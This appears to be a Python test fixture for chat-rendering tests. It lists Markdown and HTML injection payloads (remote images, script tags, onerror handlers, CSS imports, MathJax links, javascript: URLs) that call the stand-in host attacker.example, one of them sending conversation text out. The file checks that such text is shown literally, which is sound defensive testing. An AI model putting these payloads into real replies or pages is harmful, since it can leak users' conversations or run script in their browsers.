"""Conversation text written to escape a chat bubble, for the chat tests.

Every way the text of a message (a user's paste, a model's reply) could make a
notebook or its HTML export load something or run something: Markdown images and
links, autolinks and reference links, raw HTML (``<img onerror>``, ``<script>``,
``<iframe srcdoc>``, ``<style>``), MathJax's ``\\href``, bare URLs and
``javascript:``. Each must be shown literally, as typed, and every request to
``ATTACKER`` counts as a leak.
"""

from __future__ import annotations

ATTACKER = "attacker.example"
PAYLOADS = (
    f"![](https://{ATTACKER}/img?q=conversation)",
    "[x](javascript:alert(1))",
    f"<https://{ATTACKER}/autolink>",
    f"[click me][ref]\n\n[ref]: https://{ATTACKER}/reference",
    f'<img src="https://{ATTACKER}/raw.png" onerror="alert(1)">'
    f'<script src="https://{ATTACKER}/x.js"></script><a href="https://{ATTACKER}/a">a</a>'
    "<iframe srcdoc='<b>x</b>'></iframe><style>body{display:none}</style>",
    f"<style>@import url(https://{ATTACKER}/css);</style>",
    f"$\\href{{https://{ATTACKER}/tex}}{{math link}}$ and $$x^2$$",
    f"bare https://{ATTACKER}/bare and javascript:alert(2)",
)
